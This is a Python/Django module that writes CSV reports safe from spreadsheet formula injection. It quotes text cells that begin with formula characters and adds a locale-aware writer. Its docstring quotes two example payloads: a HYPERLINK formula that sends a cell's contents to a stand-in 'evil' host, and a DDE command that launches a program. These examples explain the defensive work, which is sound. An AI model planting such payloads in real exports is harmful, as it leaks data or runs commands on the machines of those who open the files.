"""CSV that is safe to open in a spreadsheet: every CSV qadesk writes goes through `csv_writer` / `csv_dict_writer`.

Names come from helpdesk exports, so a team called `=HYPERLINK("http://evil/?"&A1)` or an agent called
`+cmd|' /C calc'!A0` would run as a formula when a manager opens the report in Excel or LibreOffice (CSV or formula
injection). Following OWASP's advice, a *text* cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
gets a leading single quote, which spreadsheets show as text; numbers (ints, floats, Decimals, booleans) are written
as they are, so a negative score stays a number. None becomes an empty cell.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from decimal import Decimal
from typing import Any, TextIO

from django.utils import formats
from django.utils.translation import gettext

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """The cell as written: text that a spreadsheet would read as a formula is prefixed with a single quote."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose rows have their text cells made spreadsheet-safe."""

    def __init__(self, stream: TextIO) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """`csv.DictWriter` whose rows have their text cells made spreadsheet-safe (the header names are ours)."""

    def __init__(self, stream: TextIO, fieldnames: list[str]) -> None:
        self._writer = csv.DictWriter(stream, fieldnames=fieldnames)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({name: spreadsheet_safe(value) for name, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO) -> SafeWriter:
    return SafeWriter(stream)


def csv_dict_writer(stream: TextIO, fieldnames: list[str]) -> SafeDictWriter:
    return SafeDictWriter(stream, fieldnames)


class PeoplesWriter(SafeWriter):
    """CSV for a person to open in a spreadsheet program, in the active language: a UTF-8 byte-order mark first (so Excel
    reads the accents), numbers with the language's decimal separator, and then `;` between cells where that separator is
    a comma (as Italian and French spreadsheets expect); yes/no in words. Text cells stay spreadsheet-safe."""

    def __init__(self, stream: TextIO) -> None:
        self.decimal = str(formats.get_format("DECIMAL_SEPARATOR"))
        self._writer = csv.writer(stream, delimiter=";" if self.decimal == "," else ",")
        stream.write("\ufeff")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([self._cell(spreadsheet_safe(value)) for value in row])

    def _cell(self, value: Any) -> Any:
        if isinstance(value, bool):
            return gettext("yes") if value else gettext("no")
        if isinstance(value, float | Decimal):
            return str(value).replace(".", self.decimal)
        return value


def csv_writer_for_people(stream: TextIO) -> PeoplesWriter:
    return PeoplesWriter(stream)
